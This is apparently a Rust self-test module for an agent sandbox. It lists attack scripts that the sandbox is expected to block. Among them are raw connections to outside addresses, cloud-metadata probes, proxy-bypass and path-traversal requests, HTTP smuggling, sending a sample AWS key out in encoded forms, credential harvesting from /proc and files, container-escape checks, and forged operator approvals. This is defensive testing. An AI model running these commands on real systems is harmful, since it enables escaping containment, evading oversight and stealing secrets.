//! The attempts, as data: what is tried, by which script, and how it is judged. Scripts run under bash with [`TOOLS`] before
//! them; what they print got through.

use shared::authority::{Host, HostPattern};
use shared::routes::{PathRule, PathRules, Ports, Route, ScanMode};

use super::judge::Judge;
use crate::plan::{Plan, Supervise};

#[derive(Debug, Clone)]
pub(super) struct Attempt {
    pub(super) area: &'static str,
    pub(super) name: &'static str,
    /// Or why it cannot be tried in this bottle.
    pub(super) script: Result<String, &'static str>,
    pub(super) judge: Judge,
}

/// What of this bottle's grants an attempt can be aimed at.
#[derive(Debug, Clone, Default)]
pub(super) struct Targets {
    /// A granted host that is scanned.
    host: Option<String>,
    /// A public host that is not granted.
    foreign: Option<&'static str>,
    /// `HOST` and a granted prefix of it, ending in a slash.
    prefix: Option<(String, String)>,
    /// The built-in scan or pipelock looks at what leaves.
    is_guarded: bool,
    /// A repository that git-gate serves.
    repository: Option<String>,
    is_supervised: bool,
}

impl Targets {
    pub(super) fn of(plan: &Plan) -> Self {
        let exact = |route: &Route| match &route.host {
            HostPattern::Exact(host) if route.ports == Ports::Default => Some(host.to_string()),
            HostPattern::Exact(_) | HostPattern::Wildcard(_) => None,
        };
        let ungranted = |name: &&str| name.parse().is_ok_and(|host: Host| plan.egress.routes.find(&host).is_none());
        let mut targets = Self {
            foreign: FOREIGN.into_iter().find(ungranted),
            is_guarded: plan.dlp.scans() || plan.dlp.asks_pipelock(),
            repository: plan.git.first().map(|remote| remote.name.to_string()),
            is_supervised: plan.supervise == Supervise::On,
            ..Self::default()
        };
        for route in plan.egress.routes.iter() {
            let Some(host) = exact(route) else { continue };
            if let (None, PathRules::Prefixes(rules)) = (&targets.prefix, &route.paths)
                && let Some(PathRule::Prefix(path)) = rules.iter().find(|rule| is_below(rule))
            {
                targets.prefix = Some((host.clone(), path.clone()));
            }
            if targets.host.is_none() && matches!(route.paths, PathRules::Any) && route.scan != Some(ScanMode::Off) {
                targets.host = Some(host);
            }
        }
        targets
    }

    /// The script with the bottle's own names, or why there are none.
    fn aim(&self, aim: Aim, script: &str) -> Result<String, &'static str> {
        let script = match (aim, &self.host, &self.prefix) {
            (Aim::Anywhere, _, _) => script.to_owned(),
            (Aim::Content, _, _) if !self.is_guarded => return Err("nothing looks at what leaves (`dlp: off`)"),
            (Aim::Content | Aim::Host, Some(host), _) => script.replace("@HOST@", host),
            (Aim::Content | Aim::Host, None, _) => return Err("no route grants a whole host"),
            (Aim::Prefix, _, Some((host, prefix))) => script.replace("@HOST@", host).replace("@PREFIX@", prefix),
            (Aim::Prefix, _, None) => return Err("no route has a `path_allowlist`"),
            (Aim::GitGate, ..) => match &self.repository {
                Some(repository) => script.replace("@REPOSITORY@", repository),
                None => return Err("the bottle has no `git`"),
            },
            (Aim::Supervise, ..) if self.is_supervised => script.to_owned(),
            (Aim::Supervise, ..) => return Err("the bottle has no `supervise`"),
        };
        match self.foreign {
            Some(foreign) => Ok(format!("{TOOLS}{}", script.replace("@FOREIGN@", foreign))),
            None if script.contains("@FOREIGN@") => Err("the bottle grants every host that would be tried"),
            None => Ok(format!("{TOOLS}{script}")),
        }
    }
}

const FOREIGN: [&str; 3] = ["example.com", "example.org", "example.net"];

fn is_below(rule: &PathRule) -> bool {
    matches!(rule, PathRule::Prefix(path) if path.len() > 1 && path.ends_with('/'))
}

/// What a script needs of the bottle.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Aim {
    Anywhere,
    /// A granted host, and somebody who looks at what leaves.
    Content,
    Host,
    Prefix,
    GitGate,
    Supervise,
}

pub(super) fn all(targets: &Targets) -> Vec<Attempt> {
    let attempt =
        |&(area, name, aim, judge, script): &Row| Attempt { area, name, script: targets.aim(aim, script), judge };
    ROWS.iter().map(attempt).collect()
}

type Row = (&'static str, &'static str, Aim, Judge, &'static str);

/// `tcp HOST PORT` and `udp HOST PORT BYTES` print what they reach; `web …` is curl through the proxy, `raw TEXT` bytes to it.
const TOOLS: &str = r#"
need() { command -v "$1" >/dev/null || { echo "$1"; exit 77; }; }
tcp() { timeout 4 bash -c "exec 3<>/dev/tcp/$1/$2" 2>/dev/null && echo "connected to $1 port $2"; }
udp() { timeout 4 bash -c "exec 3<>/dev/udp/$1/$2; printf '$3' >&3; head -c 2 <&3 | od -An -tx1" 2>/dev/null; }
web() { need curl; curl -sS -m 12 --noproxy '' "$@" 2>/dev/null; }
raw() { timeout 6 bash -c "exec 3<>/dev/tcp/egress-proxy/9099; printf '$1' >&3; cat <&3" 2>/dev/null | tr -d '\r' | grep -aE '^HTTP/1.1 [123]'; }
dns='\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01'
"#;

const ROWS: &[Row] = {
    use Aim::{Anywhere, Content, GitGate, Host, Prefix};
    use Judge::{Control, NoCredential, Refusal, Silence};
    &[
        ("control", "a port that is open", Anywhere, Control("connected"), "tcp egress-proxy 9099"),
        ("control", "the live table", Anywhere, Control("routes"), "web http://_egress-proxy.local/allowlist"),
        (
            "control",
            "the live table, by hand",
            Anywhere,
            Control("HTTP/1.1 200"),
            r"raw 'GET http://_egress-proxy.local/allowlist HTTP/1.1\r\nHost: _egress-proxy.local\r\nConnection: close\r\n\r\n'",
        ),
        ("network", "TCP to 1.1.1.1:443", Anywhere, Silence, "tcp 1.1.1.1 443"),
        ("network", "TCP to 1.1.1.1:80", Anywhere, Silence, "tcp 1.1.1.1 80"),
        ("network", "TCP to a foreign resolver", Anywhere, Silence, "tcp 8.8.8.8 53"),
        ("network", "TCP over IPv6", Anywhere, Silence, "tcp 2606:4700:4700::1111 443"),
        ("network", "UDP to a foreign resolver", Anywhere, Silence, "udp 8.8.8.8 53 \"$dns\""),
        ("network", "UDP to port 443", Anywhere, Silence, "udp 1.1.1.1 443 '\\xc0\\x0a\\x0a\\x0a\\x0a\\x00\\x00'"),
        ("network", "DNS through the engine", Anywhere, Silence, "udp 127.0.0.11 53 \"$dns\""),
        ("network", "a name by the system's resolver", Anywhere, Silence, "timeout 8 getent hosts example.com"),
        ("network", "a name of the engine's host", Anywhere, Silence, "timeout 8 getent hosts host.docker.internal"),
        ("network", "metadata address", Anywhere, Silence, "tcp 169.254.169.254 80; tcp fd00:ec2::254 80"),
        (
            "network",
            "the host's address on the bridge",
            Anywhere,
            Silence,
            "for ip in $(hostname -I); do for port in 22 53 80 443 2375 2376; do tcp \"${ip%.*}.1\" $port & done; done; wait",
        ),
        ("network", "ping", Anywhere, Silence, "need ping; ping -c 1 -W 2 1.1.1.1 2>/dev/null | grep 'bytes from'"),
        ("sidecars", "pipelock's port", Anywhere, Silence, "tcp pipelock 8888"),
        ("sidecars", "the proxy's inner face", Anywhere, Silence, "tcp egress-proxy 9098"),
        ("sidecars", "the proxy's admin port", Anywhere, Silence, "tcp egress-proxy 9097"),
        (
            "sidecars",
            "other ports of the proxy",
            Anywhere,
            Silence,
            "for port in 22 53 80 443 3128 8080 8443 8888 9090 9100; do tcp egress-proxy $port & done; wait",
        ),
        (
            "proxy",
            "no proxy at all",
            Host,
            Silence,
            "need curl; curl -sS -m 5 --noproxy '*' https://@HOST@/ 2>/dev/null",
        ),
        (
            "proxy",
            "NO_PROXY=*",
            Host,
            Silence,
            "need curl; NO_PROXY='*' no_proxy='*' curl -sS -m 5 https://@HOST@/ 2>/dev/null",
        ),
        ("proxy", "a host without a route", Anywhere, Refusal, "web https://@FOREIGN@/"),
        ("proxy", "the same in clear", Anywhere, Refusal, "web http://@FOREIGN@/"),
        ("proxy", "an address", Anywhere, Refusal, "web https://1.1.1.1/"),
        ("proxy", "an IPv6 address", Anywhere, Refusal, "web -g 'https://[2606:4700:4700::1111]/'"),
        ("proxy", "DNS over HTTPS", Anywhere, Refusal, "web 'https://dns.google/resolve?name=@FOREIGN@'"),
        ("proxy", "metadata through the proxy", Anywhere, Refusal, "web http://169.254.169.254/latest/meta-data/"),
        ("proxy", "metadata by name", Anywhere, Refusal, "web http://metadata.google.internal/"),
        ("proxy", "its own loopback", Anywhere, Refusal, "web http://127.0.0.1:9097/"),
        ("proxy", "its own loopback as a number", Anywhere, Refusal, "web http://2130706433:9097/"),
        ("proxy", "its own inner face", Anywhere, Refusal, "web http://egress-proxy:9098/"),
        ("proxy", "pipelock through the proxy", Anywhere, Refusal, "web http://pipelock:8888/health"),
        ("proxy", "a subdomain of a granted host", Host, Refusal, "web https://selftest.@HOST@/"),
        ("proxy", "another port of a granted host", Host, Refusal, "web https://@HOST@:8443/"),
        (
            "proxy",
            "SNI is not the CONNECT target",
            Host,
            Refusal,
            "web --connect-to @FOREIGN@:443:@HOST@:443 https://@FOREIGN@/",
        ),
        ("proxy", "Host is not the CONNECT target", Host, Refusal, "web -H 'Host: @FOREIGN@' https://@HOST@/"),
        ("proxy", "the inspection's own field", Host, Refusal, "web -H 'X-Exchange: 1' https://@HOST@/"),
        ("proxy", "a method nobody registered", Host, Refusal, "web -X SELFTEST https://@HOST@/"),
        ("git", "git push over HTTPS", Host, Refusal, "web -X POST https://@HOST@/a.git/git-receive-pack"),
        ("git", "its discovery", Host, Refusal, "web 'https://@HOST@/a.git/info/refs?service=git-receive-pack'"),
        (
            "git",
            "its discovery, encoded",
            Host,
            Refusal,
            "web 'https://@HOST@/a.git/info/refs?service=git%2Dreceive%2dpack'",
        ),
        (
            "git",
            "other ports of git-gate",
            GitGate,
            Silence,
            "for port in 22 53 80 443 2222 3128 8080 9097 9099 9100; do tcp git-gate $port & done; wait",
        ),
        (
            "git",
            "a repository that git-gate does not serve",
            GitGate,
            Silence,
            "need git; for name in selftest ../@REPOSITORY@ @REPOSITORY@/../selftest /run/git-gate; do \
             timeout 6 git ls-remote \"git://git-gate/$name.git\" 2>/dev/null & done; wait",
        ),
        (
            "git",
            "an archive out of git-gate",
            GitGate,
            Silence,
            "need git; timeout 6 git archive --remote=git://git-gate/@REPOSITORY@.git HEAD 2>/dev/null | head -c 64 | od -An -tx1",
        ),
        (
            "supervise",
            "its other ports",
            Aim::Supervise,
            Silence,
            "for port in 22 53 80 443 3128 8080 9097 9098 9099 9418; do tcp supervise $port & done; wait",
        ),
        (
            "supervise",
            "an operator's decision",
            Aim::Supervise,
            Silence,
            "need curl; for path in / /mcp /decide /approve; do for body in '{\"approved\": 1}' '{\"number\": 1, \"decision\": \"approved\"}' \
             '{\"jsonrpc\": \"2.0\", \"id\": 1, \"method\": \"tools/call\", \"params\": {\"name\": \"approve\", \"arguments\": {\"host\": \"@FOREIGN@\"}}}'; do \
             curl -s -o /dev/null -m 5 -H 'Content-Type: application/json' -H 'Accept: application/json, text/event-stream' \
             -d \"$body\" http://supervise:9100$path & done; done; wait; web http://_egress-proxy.local/allowlist | grep -E '\"host\": ?\"@FOREIGN@\"'",
        ),
        ("paths", "a path beside the prefix", Prefix, Refusal, "web https://@HOST@/selftest"),
        ("paths", "dot segments", Prefix, Refusal, "web --path-as-is https://@HOST@@PREFIX@../selftest"),
        ("paths", "encoded dot segments", Prefix, Refusal, "web --path-as-is https://@HOST@@PREFIX@%2e%2e/selftest"),
        ("paths", "encoded slash", Prefix, Refusal, "web --path-as-is https://@HOST@@PREFIX@..%2fselftest"),
        ("paths", "twice encoded", Prefix, Refusal, "web --path-as-is https://@HOST@@PREFIX@%252e%252e/selftest"),
        ("paths", "backslash", Prefix, Refusal, "web --path-as-is 'https://@HOST@@PREFIX@..\\selftest'"),
        ("paths", "path parameter", Prefix, Refusal, "web --path-as-is 'https://@HOST@@PREFIX@..;/selftest'"),
        ("paths", "empty segment", Prefix, Refusal, "web --path-as-is https://@HOST@/@PREFIX@selftest"),
        ("paths", "X-Original-URL", Prefix, Refusal, "web -H 'X-Original-URL: /selftest' https://@HOST@@PREFIX@"),
        (
            "framing",
            "length and chunks at once",
            Anywhere,
            Silence,
            r"raw 'POST http://@FOREIGN@/ HTTP/1.1\r\nHost: @FOREIGN@\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG'",
        ),
        (
            "framing",
            "two lengths",
            Anywhere,
            Silence,
            r"raw 'POST http://@FOREIGN@/ HTTP/1.1\r\nHost: @FOREIGN@\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab'",
        ),
        (
            "framing",
            "two hosts",
            Host,
            Silence,
            r"raw 'GET http://@FOREIGN@/ HTTP/1.1\r\nHost: @HOST@\r\nHost: @FOREIGN@\r\nConnection: close\r\n\r\n'",
        ),
        (
            "framing",
            "a granted host as user information",
            Host,
            Silence,
            r"raw 'GET http://@HOST@@@FOREIGN@/ HTTP/1.1\r\nHost: @FOREIGN@\r\nConnection: close\r\n\r\n'",
        ),
        (
            "content",
            "a key in the content",
            Content,
            Refusal,
            "web -d \"key=AKIA$(printf QYLPMN5HFIQR7XYA)\" https://@HOST@/selftest",
        ),
        (
            "content",
            "a key in a field",
            Content,
            Refusal,
            "web -H \"X-Note: AKIA$(printf QYLPMN5HFIQR7XYA)\" https://@HOST@/selftest",
        ),
        (
            "content",
            "a key in the query",
            Content,
            Refusal,
            "web \"https://@HOST@/selftest?q=AKIA$(printf QYLPMN5HFIQR7XYA)\"",
        ),
        (
            "content",
            "a key in Base64",
            Content,
            Refusal,
            "web -d \"$(printf 'aws_access_key_id=AKIA%s' QYLPMN5HFIQR7XYA | base64 -w0)\" https://@HOST@/selftest",
        ),
        (
            "content",
            "a key in gzip",
            Content,
            Refusal,
            "need gzip; printf 'aws_access_key_id=AKIA%s' QYLPMN5HFIQR7XYA | gzip | web -H 'Content-Encoding: gzip' --data-binary @- https://@HOST@/selftest",
        ),
        ("secrets", "the environment", Anywhere, NoCredential, "env"),
        (
            "secrets",
            "the environment of every process",
            Anywhere,
            NoCredential,
            "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'",
        ),
        ("secrets", "command lines", Anywhere, NoCredential, "cat /proc/*/cmdline 2>/dev/null | tr '\\0' ' '"),
        (
            "secrets",
            "files",
            Anywhere,
            NoCredential,
            "find \"$HOME\" /tmp /run /etc /var/tmp /usr/local/share -type f -size -64k -readable -exec cat {} + 2>/dev/null | head -c 16000000",
        ),
        ("secrets", "the live table", Anywhere, NoCredential, "web http://_egress-proxy.local/allowlist"),
        (
            "secrets",
            "the CA's key",
            Anywhere,
            Silence,
            "grep -rls -e 'PRIVATE KEY-----' /usr/local/share/ca-certificates /etc/ssl/certs /tmp /run \"$HOME\"",
        ),
        (
            "sandbox",
            "the engine's socket",
            Anywhere,
            Silence,
            "ls /var/run/docker.sock /run/docker.sock /run/podman/podman.sock 2>/dev/null",
        ),
        ("sandbox", "root", Anywhere, Silence, "id -u | grep -x 0"),
        (
            "sandbox",
            "capabilities",
            Anywhere,
            Silence,
            "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status | grep -v 0000000000000000",
        ),
        ("sandbox", "new privileges", Anywhere, Silence, "grep -E '^NoNewPrivs:[[:space:]]*0' /proc/self/status"),
        (
            "sandbox",
            "sudo and su",
            Anywhere,
            Silence,
            "(sudo -n id -u; su -c 'id -u' </dev/null) 2>/dev/null | grep -x 0",
        ),
        ("sandbox", "mounting", Anywhere, Silence, "mount -t tmpfs none /mnt 2>/dev/null && echo mounted"),
        (
            "sandbox",
            "a user namespace",
            Anywhere,
            Silence,
            "grep -qs gvisor /proc/version && { echo \"it would be one of gVisor's own kernel\"; exit 78; }; \
             unshare -Ur id -u 2>/dev/null | grep -x 0",
        ),
        (
            "sandbox",
            "a socket to a virtual machine's host",
            Anywhere,
            Silence,
            "command -v perl >/dev/null || { echo 'there is no perl'; exit 78; }; \
             perl -e 'socket(my $made, 40, 1, 0) and print \"made\\n\"'",
        ),
        (
            "sandbox",
            "kernel settings",
            Anywhere,
            Silence,
            "(echo x >/proc/sys/kernel/core_pattern) 2>/dev/null && echo written",
        ),
        (
            "sandbox",
            "control groups",
            Anywhere,
            Silence,
            "find /sys/fs/cgroup -writable -type f 2>/dev/null | head -n 1",
        ),
        (
            "sandbox",
            "devices",
            Anywhere,
            Silence,
            "head -c 1 /dev/mem /dev/kmsg /dev/sda /dev/vda 2>/dev/null | od -An -tx1",
        ),
        (
            "sandbox",
            "folders of the host",
            Anywhere,
            Silence,
            "grep -E ' /(home|root|host|mnt|Users|var/lib/docker)[ /]' /proc/mounts",
        ),
    ]
};

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn at_least_forty_attempts_need_no_luck() {
        let targets = Targets { foreign: Some("example.com"), ..Targets::default() };
        assert!(all(&targets).iter().filter(|attempt| attempt.script.is_ok()).count() >= 40);
        assert!(all(&targets).iter().any(|attempt| attempt.script.is_err()));
    }

    #[test]
    fn every_name_is_aimed() {
        let targets = Targets {
            host: Some("a.example".to_owned()),
            foreign: Some("example.com"),
            prefix: Some(("b.example".to_owned(), "/p/".to_owned())),
            is_guarded: true,
            repository: Some("infra".to_owned()),
            is_supervised: true,
        };
        for attempt in all(&targets) {
            let script = attempt.script.unwrap();
            assert!(
                ["@HOST@", "@PREFIX@", "@FOREIGN@", "@REPOSITORY@"].iter().all(|name| !script.contains(name)),
                "{}",
                attempt.name
            );
        }
    }

    #[test]
    fn what_cannot_be_tried_says_why() {
        let targets = Targets { host: Some("a.example".to_owned()), ..Targets::default() };
        let untried: Vec<_> = all(&targets).into_iter().filter_map(|attempt| attempt.script.err()).collect();
        assert!(untried.contains(&"nothing looks at what leaves (`dlp: off`)"));
        assert!(untried.contains(&"no route has a `path_allowlist`"));
        assert!(untried.contains(&"the bottle has no `git`"));
        assert!(untried.contains(&"the bottle has no `supervise`"));
    }
}
